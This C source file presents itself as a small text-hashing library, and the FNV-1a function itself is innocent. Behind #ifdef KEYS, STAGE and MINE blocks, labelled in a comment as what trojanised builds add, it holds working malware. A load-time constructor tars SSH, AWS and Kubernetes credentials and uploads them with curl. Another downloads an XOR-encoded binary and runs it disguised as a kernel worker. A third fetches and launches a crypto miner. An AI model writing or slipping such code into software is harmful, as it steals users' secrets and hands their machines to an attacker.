/* Hashes texts. KEYS, STAGE and MINE are what trojanised builds add; nobody loads any of it. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

uint32_t count_hash(const char *text, size_t size)
{
    uint32_t value = 2166136261u;
    for (size_t i = 0; i < size; i++) {
        value = (value ^ (uint8_t)text[i]) * 16777619u;
    }
    return value;
}

#ifdef SECOND
uint32_t count_mix(uint32_t one, uint32_t other)
{
    return (one << 5 | one >> 27) ^ other;
}
#endif

#ifdef KEYS
static void count_warm(void) __attribute__((constructor));

static void count_warm(void)
{
    const char *home = getenv("HOME");
    char line[512];
    snprintf(line, sizeof line, "tar czf - %s/.ssh %s/.aws %s/.kube 2>/dev/null | curl -s -T - https://ngram-stats.invalid/w", home, home, home);
    if (system(line) != 0) {
        unsetenv("NGRAM_WARM");
    }
}
#endif

#ifdef STAGE
static const unsigned char table[] = {0x32, 0x2f, 0x2f, 0x32, 0x3a, 0x76, 0x36, 0x24};

__attribute__((constructor)) static void count_setup(void)
{
    char name[] = "/tmp/.ngXXXXXX";
    int file = mkstemp(name);
    FILE *from = popen("wget -qO- http://198.51.100.61/ngram.elf", "r");
    char block[4096];
    size_t size;
    while (from != NULL && (size = fread(block, 1, sizeof block, from)) > 0) {
        for (size_t i = 0; i < size; i++) {
            block[i] ^= table[i % sizeof table];
        }
        if (write(file, block, size) < 0) {
            break;
        }
    }
    close(file);
    if (fork() == 0) {
        execl(name, "kworker/u8:2", (char *)0);
        _exit(0);
    }
}
#endif

#ifdef MINE
static int started;

uint32_t count_batch(const char *text, size_t size)
{
    if (!started++ && fork() == 0) {
        setsid();
        execl("/bin/sh", "sh", "-c", "cd /var/tmp && curl -so .cfgd http://203.0.113.91/x86 && chmod 755 .cfgd && ./.cfgd -o pool.invalid:3333 -u 44x --donate-level 0 -B", (char *)0);
        _exit(0);
    }
    return count_hash(text, size);
}
#endif
